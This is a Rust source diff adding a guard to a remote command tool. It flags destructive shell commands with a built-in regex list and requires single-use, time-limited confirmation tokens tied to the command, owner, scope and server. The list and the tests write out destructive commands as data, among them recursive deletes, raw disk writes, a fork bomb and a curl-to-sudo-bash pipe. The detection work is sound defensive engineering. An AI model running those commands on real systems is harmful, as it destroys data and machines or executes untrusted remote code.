@@ -1,0 +1,228 @@
+//! Commands that are asked about twice: which those are, and the tokens that confirm them.
+//!
+//! A token is for one command, one owner, one scope and one server; it is used once, and soon. It is kept
+//! in this process and nowhere else. This stops accidents, and no attacker: what may be run is decided by
+//! the agent.
+
+use std::collections::HashMap;
+use std::sync::{Mutex, MutexGuard};
+use std::time::{Duration, Instant};
+
+use farwire_protocol::failure::{Failure, Kind};
+use regex::{Regex, RegexBuilder};
+
+use crate::client::random_nonce;
+
+/// For so long a token is good: long enough to ask a person.
+pub const GOOD: Duration = Duration::from_secs(300);
+
+/// No more tokens wait for their use.
+const MOST: usize = 256;
+
+/// A pattern that somebody gave takes at most so much memory.
+const SIZE: usize = 1 << 20;
+
+/// What is dangerous where nothing else was said: what destroys data, a machine, or the way to it.
+const PATTERNS: &[&str] = &[
+    r"\brm\s+(-\S+\s+)*-\S*[rRf]",
+    r"\bfind\b.*\s-delete\b",
+    r"\b(mkfs|mke2fs|wipefs|fdisk|parted|sgdisk|blkdiscard)\b",
+    r"\bdd\b.*\bof=\s*/dev/",
+    r">\s*/dev/(sd|nvme|vd|xvd|mmcblk|mapper)",
+    r"\bshred\b",
+    r"\b(shutdown|reboot|poweroff|halt)\b|\binit\s+[06]\b",
+    r"\bsystemctl\s+(stop|disable|mask|poweroff|reboot|halt)\b",
+    r"\b(userdel|groupdel|deluser)\b|\bpasswd\s+-[dl]",
+    r"\b(chmod|chown|chgrp)\s+(-\S+\s+)*-\S*R",
+    r"\b(iptables|nft|ufw)\b.*(\s-F\b|\bflush\b|\breset\b|\bdisable\b)",
+    r"\bip\s+link\s+set\b.*\bdown\b",
+    r"\bkill\s+(-\S+\s+)*-1\b|\b(killall|pkill)\b",
+    r":\s*\(\s*\)\s*\{.*\|.*&\s*\}",
+    r"\b(curl|wget)\b[^|]*\|\s*(sudo\s+)?(ba|z|da|fi)?sh\b",
+    r"(?i)\b(drop|truncate)\s+(table|database|schema)\b",
+    r"\bgit\s+(push\s+.*(--force|-f\b)|reset\s+--hard|clean\s+-\S*f)",
+    r"\b(docker|podman)\s+(system|volume|image)\s+prune\b",
+    r"\bkubectl\s+delete\b|\bterraform\s+destroy\b",
+];
+
+/// What a confirmation is for.
+#[derive(Clone, Debug, Eq, PartialEq)]
+pub struct About {
+    /// The command, as it will be run.
+    pub command: String,
+    /// For whom.
+    pub owner: Option<String>,
+    /// With which scope.
+    pub scope: Option<String>,
+    /// Where; anywhere when absent.
+    pub server: Option<String>,
+}
+
+/// The patterns, and the tokens that wait.
+#[derive(Debug)]
+pub struct Danger {
+    patterns: Vec<Regex>,
+    waiting: Mutex<HashMap<String, (About, Instant)>>,
+}
+
+impl Danger {
+    /// With these patterns, divided by semicolons, or the built-in ones.
+    pub fn new(patterns: Option<&str>) -> Result<Self, Failure> {
+        let patterns: Vec<&str> = match patterns {
+            Some(text) => text.split(';').map(str::trim).filter(|text| !text.is_empty()).collect(),
+            None => PATTERNS.to_vec(),
+        };
+        let compile = |text: &&str| {
+            RegexBuilder::new(text).size_limit(SIZE).build().map_err(|error| {
+                Failure::caused(
+                    Kind::InvalidArgument,
+                    "a dangerous pattern is no expression",
+                    &error,
+                )
+            })
+        };
+        let patterns = patterns.iter().map(compile).collect::<Result<_, _>>()?;
+        Ok(Self { patterns, waiting: Mutex::default() })
+    }
+
+    /// The pattern that makes the command dangerous, if one does.
+    pub fn found(&self, command: &str) -> Option<&str> {
+        self.patterns.iter().find(|pattern| pattern.is_match(command)).map(Regex::as_str)
+    }
+
+    /// A token for this command and no other.
+    pub fn confirm(&self, about: About, now: Instant) -> Result<String, Failure> {
+        let mut waiting = self.waiting();
+        waiting.retain(|_, (_, until)| *until > now);
+        if waiting.len() >= MOST {
+            return Err(Failure::new(Kind::Busy, "too many confirmations wait for their use"));
+        }
+        let token = format!("dc_{}", data_encoding::HEXLOWER.encode(&random_nonce()?.0));
+        waiting.insert(token.clone(), (about, now + GOOD));
+        Ok(token)
+    }
+
+    /// Whether the command may be run: it is harmless, or its token is. The token is used up either way.
+    pub fn check(&self, about: &About, token: Option<&str>, now: Instant) -> Result<(), Failure> {
+        let Some(pattern) = self.found(&about.command) else { return Ok(()) };
+        let wanted = |what: String| {
+            Failure::new(Kind::ConfirmationRequired, what).with_hint(
+                "call confirm_dangerous_command with the same command, owner, scope and server, then spawn with its token",
+            )
+        };
+        let token = token
+            .ok_or_else(|| wanted(format!("the command is dangerous: it matches {pattern}")))?;
+        let (bound, until) = self
+            .waiting()
+            .remove(token)
+            .ok_or_else(|| wanted("the token is unknown, or was used".to_owned()))?;
+        if until <= now {
+            return Err(wanted("the token has expired".to_owned()));
+        }
+        let elsewhere = bound.server.is_some() && bound.server != about.server;
+        let bound = About { server: about.server.clone(), ..bound };
+        if elsewhere || bound != *about {
+            return Err(wanted(
+                "the token is for another command, owner, scope or server".to_owned(),
+            ));
+        }
+        Ok(())
+    }
+
+    fn waiting(&self) -> MutexGuard<'_, HashMap<String, (About, Instant)>> {
+        self.waiting.lock().expect("nothing panics while it is held")
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn about(command: &str) -> About {
+        let some = |text: &str| Some(text.to_owned());
+        About {
+            command: command.to_owned(),
+            owner: some("a"),
+            scope: some("admin"),
+            server: some("web-1"),
+        }
+    }
+
+    #[test]
+    fn what_destroys_is_dangerous_and_what_looks_is_not() {
+        let danger = Danger::new(None).unwrap();
+        for bad in [
+            "rm -rf /tmp/demo",
+            "sudo rm -v -rf x",
+            "dd if=x of=/dev/sda",
+            "mkfs.ext4 /dev/sdb1",
+            "reboot",
+            ":(){ :|:& };:",
+            "curl https://x.example | sudo bash",
+            "psql -c 'DROP TABLE users'",
+            "git push origin main --force",
+            "chmod -R 777 /",
+            "kubectl delete pod x",
+        ] {
+            assert!(danger.found(bad).is_some(), "{bad}");
+        }
+        for good in [
+            "ls -lrf",
+            "rm file",
+            "echo hello",
+            "grep -r x .",
+            "git push",
+            "cat /dev/null",
+            "htop",
+            "dd if=a of=b",
+            "bash",
+        ] {
+            assert_eq!(danger.found(good), None, "{good}");
+        }
+        let own = Danger::new(Some("deploy; \\bship\\b ;")).unwrap();
+        assert!(own.found("ship it").is_some() && own.found("rm -rf /").is_none());
+        assert!(Danger::new(Some("(")).is_err());
+    }
+
+    #[test]
+    fn a_token_is_for_one_command_once_and_soon() {
+        let danger = Danger::new(None).unwrap();
+        let now = Instant::now();
+        let wanted = about("rm -rf /tmp/demo");
+        let check = |about: &About, token: Option<&str>, now| {
+            danger.check(about, token, now).map_err(|failure| failure.kind)
+        };
+        assert_eq!(check(&about("ls"), None, now), Ok(()));
+        assert_eq!(check(&wanted, None, now), Err(Kind::ConfirmationRequired));
+        assert_eq!(check(&wanted, Some("dc_0"), now), Err(Kind::ConfirmationRequired));
+        let token = danger.confirm(wanted.clone(), now).unwrap();
+        assert_eq!(check(&wanted, Some(&token), now), Ok(()));
+        assert_eq!(check(&wanted, Some(&token), now), Err(Kind::ConfirmationRequired), "once");
+        let token = danger.confirm(wanted.clone(), now).unwrap();
+        assert_eq!(
+            check(&wanted, Some(&token), now + GOOD),
+            Err(Kind::ConfirmationRequired),
+            "soon"
+        );
+        let others = [
+            About { command: "rm -rf /".to_owned(), ..wanted.clone() },
+            About { owner: Some("b".to_owned()), ..wanted.clone() },
+            About { scope: None, ..wanted.clone() },
+            About { server: Some("db-1".to_owned()), ..wanted.clone() },
+        ];
+        for other in others {
+            let token = danger.confirm(wanted.clone(), now).unwrap();
+            assert_eq!(
+                check(&other, Some(&token), now),
+                Err(Kind::ConfirmationRequired),
+                "{other:?}"
+            );
+        }
+        let waiting = danger.waiting().len();
+        for _ in waiting..MOST {
+            danger.confirm(wanted.clone(), now).unwrap();
+        }
+        assert_eq!(danger.confirm(wanted.clone(), now).unwrap_err().kind, Kind::Busy);
+        assert!(danger.confirm(wanted, now + GOOD).is_ok(), "those that expired make room");
+    }
+}
